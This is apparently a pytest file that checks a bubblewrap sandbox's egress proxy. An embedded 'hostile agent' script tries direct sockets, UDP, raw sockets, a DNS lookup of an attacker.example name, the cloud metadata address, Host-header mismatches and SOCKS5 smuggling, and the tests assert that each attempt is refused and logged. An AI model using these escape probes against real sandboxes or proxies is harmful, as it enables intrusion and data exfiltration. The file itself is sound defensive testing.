"""The sandbox's one door out: a hostile agent (our own script) run under real bubblewrap tries
every way past the egress proxy; only the allowlisted 127.0.0.1 stub is reached, every refusal
is recorded, and a listener the test started on the host sees nothing."""

from __future__ import annotations

import http.server
import ipaddress
import json
import os
import secrets
import socketserver
import threading
from collections.abc import Iterator

import pytest

from intake.workers.egress import EgressError, is_public, parse_allowlist, parse_entry
from intake.workers.rundirs import RunRoot
from intake.workers.sandbox import Sandbox

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="bubblewrap is not installed")


class _Counting(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        self.connections = 0
        self.paths: list[str] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                owner.paths.append(self.path)
                body = b"stub says hello\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    def process_request(self, request, client_address):  # type: ignore[no-untyped-def]
        self.connections += 1
        super().process_request(request, client_address)

    @property
    def port(self) -> int:
        return int(self.server_address[1])


@pytest.fixture
def listeners() -> Iterator[tuple[_Counting, _Counting]]:
    """An allowlisted stub and a forbidden listener, both on the host's 127.0.0.1."""
    servers = (_Counting(), _Counting())
    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in servers]
    for t in threads:
        t.start()
    yield servers
    for s in servers:
        s.shutdown()
        s.server_close()


HOSTILE = r"""
import json, socket, sys
stub, forbidden = int(sys.argv[1]), int(sys.argv[2])
out = {}
def attempt(name, fn):
    try:
        out[name] = fn()
    except Exception as exc:
        out[name] = type(exc).__name__
def direct(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=3); s.close(); return "connected"
def via_proxy(raw, read_more=b""):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(raw)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
        if read_more and data.startswith(b"HTTP/1.1 200 Connection") and read_more:
            s.sendall(read_more); read_more = b""
    s.close()
    return data.decode("latin-1").split("\r\n")[0] + ("|body:" + data.decode("latin-1").split("\r\n\r\n", 1)[-1] if b"stub says" in data else "")
# Around the proxy: direct sockets (the host's loopback is not this namespace's), UDP, raw, DNS.
attempt("direct_stub", lambda: direct(stub))
attempt("direct_forbidden", lambda: direct(forbidden))
attempt("direct_public", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3) and "connected")
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("8.8.8.8", 53)); return "sent"
attempt("udp_dns", udp)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
attempt("dns_lookup", lambda: socket.getaddrinfo("exfil-4f2a.attacker.example", 80) and "resolved")
attempt("resolv_conf", lambda: open("/etc/resolv.conf").read() and "read")
# Through the proxy.
attempt("allowed_get", lambda: via_proxy(b"GET http://127.0.0.1:%d/ok HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (stub, stub)))
attempt("allowed_connect", lambda: via_proxy(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % stub,
                                             b"GET /tunnel HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
attempt("forbidden_literal", lambda: via_proxy(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % forbidden))
attempt("not_listed", lambda: via_proxy(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
attempt("to_loopback", lambda: via_proxy(b"CONNECT loop.test:%d HTTP/1.1\r\n\r\n" % forbidden))
attempt("to_metadata", lambda: via_proxy(b"GET http://meta.test/latest/meta-data/ HTTP/1.1\r\nHost: meta.test\r\n\r\n"))
attempt("to_mapped", lambda: via_proxy(b"CONNECT mapped.test:443 HTTP/1.1\r\n\r\n"))
attempt("other_port", lambda: via_proxy(b"CONNECT api.test:22 HTTP/1.1\r\n\r\n"))
attempt("host_mismatch", lambda: via_proxy(b"GET http://127.0.0.1:%d/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (stub, forbidden)))
attempt("connect_host_mismatch", lambda: via_proxy(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: meta.test:80\r\n\r\n" % stub))
attempt("socks5_remote_dns", lambda: via_proxy(b"\x05\x01\x00\x05\x01\x00\x03\x0bmeta.test\x00\x50"))
attempt("origin_form", lambda: via_proxy(b"GET /ok HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % stub))
print("REPORT " + json.dumps(out))
"""


async def _test_resolver(host: str, port: int) -> list[str]:
    """The names this test controls (a test-only hook: no configuration can set it)."""
    names = {"loop.test": ["127.0.0.1"], "meta.test": ["169.254.169.254"], "mapped.test": ["::ffff:10.0.0.1"],
             "api.test": ["93.184.216.34"]}
    if host not in names:
        raise OSError("no such name")
    return names[host]


def test_a_hostile_agent_reaches_only_the_allowlisted_stub(listeners: tuple[_Counting, _Counting]) -> None:
    stub, forbidden = listeners
    allow = parse_allowlist([f"127.0.0.1:{stub.port}", f"loop.test:{forbidden.port}", "meta.test:80",
                             "mapped.test:443", "api.test:443", "evil.example:80"])
    box = Sandbox(network="egress", egress=allow, resolver=_test_resolver)
    with RunRoot(f"egress-{secrets.token_hex(4)}").run() as run_dir:
        ran = box.run(["python3", "-c", HOSTILE, str(stub.port), str(forbidden.port)],
                      workdir=RunRoot.private(run_dir, "work"), home=RunRoot.private(run_dir, "home"),
                      env={"PATH": "/usr/bin:/bin"}, timeout_s=60, max_output_bytes=1 << 20)
    assert ran.ok, ran.output_tail
    report = json.loads(ran.output_tail.split("REPORT ", 1)[1])
    for name in ("direct_stub", "direct_forbidden"):
        assert report[name] in {"ConnectionRefusedError", "OSError", "TimeoutError"}, (name, report)
    assert report["direct_public"] in {"OSError", "TimeoutError"}, report  # ENETUNREACH: no route
    assert report["udp_dns"] == "OSError", report
    assert report["raw"] == "PermissionError", report
    assert report["dns_lookup"] == "gaierror", report
    assert report["resolv_conf"] == "FileNotFoundError", report
    assert report["allowed_get"] == "HTTP/1.0 200 OK|body:stub says hello\n", report
    assert report["allowed_connect"].startswith("HTTP/1.1 200 Connection Established"), report
    assert "stub says hello" in report["allowed_connect"]
    for name in ("forbidden_literal", "not_listed", "to_loopback", "to_metadata", "to_mapped", "other_port"):
        assert report[name].startswith("HTTP/1.1 403"), (name, report)
    for name in ("host_mismatch", "connect_host_mismatch", "socks5_remote_dns", "origin_form"):
        assert report[name].startswith("HTTP/1.1 400"), (name, report)
    # Nothing reached the forbidden listener; the stub saw exactly the two allowed requests.
    assert forbidden.connections == 0
    assert sorted(stub.paths) == ["/ok", "/tunnel"]
    facts = ran.egress
    assert facts is not None
    by_reason = {(a["host"], a["port"]): a for a in facts["attempts"]}
    assert by_reason[("127.0.0.1", forbidden.port)]["reason"] == "not on the allowlist"
    assert by_reason[("loop.test", forbidden.port)]["reason"] == "loop.test resolves to 127.0.0.1, which is not public"
    assert by_reason[("meta.test", 80)]["reason"] == "meta.test resolves to 169.254.169.254, which is not public"
    mapped = ipaddress.ip_address("::ffff:10.0.0.1")
    assert by_reason[("mapped.test", 443)]["reason"] == f"mapped.test resolves to {mapped}, which is not public"
    assert by_reason[("api.test", 22)]["reason"] == "not on the allowlist"
    assert by_reason[("evil.example", 443)]["reason"] == "not on the allowlist"
    allowed = [a for a in facts["attempts"] if a["allowed"]]
    assert len(allowed) == 2 and all(a["bytes_down"] > 0 and a["bytes_up"] > 0 for a in allowed)
    assert facts["allowed"] == 2 and facts["refused"] == len(facts["attempts"]) - 2 == 10


def test_allowlist_entries_need_a_port_and_a_real_suffix() -> None:
    assert str(parse_entry("API.Example.com:443")) == "api.example.com:443"
    assert str(parse_entry("*.example.com:443")) == "*.example.com:443"
    assert str(parse_entry("[::1]:8080")) == "[::1]:8080"
    for bad in ("example.com", "*.com:443", "example.com:0", "example.com:99999", "http://x:1", "a b:1",
                "*:443", "example.com:443/x"):
        with pytest.raises(EgressError):
            parse_entry(bad)
    rule = parse_entry("*.example.com:443")
    assert rule.matches("api.example.com", 443) and not rule.matches("example.com", 443)
    assert not rule.matches("api.example.com", 80) and not rule.matches("evilexample.com", 443)


@pytest.mark.parametrize("address", ["127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254",
                                     "100.64.0.1", "224.0.0.1", "0.0.0.0", "255.255.255.255", "::1", "::",
                                     "fe80::1", "fc00::1", "ff02::1", "::ffff:10.0.0.1", "::ffff:127.0.0.1",
                                     "2002:a00:1::", "64:ff9b::a00:1", "fd00:ec2::254"])
def test_no_private_address_counts_as_public(address: str) -> None:
    assert not is_public(ipaddress.ip_address(address))


@pytest.mark.parametrize("address", ["93.184.216.34", "2606:4700::6810:84e5", "::ffff:93.184.216.34"])
def test_public_addresses_are_public(address: str) -> None:
    assert is_public(ipaddress.ip_address(address))
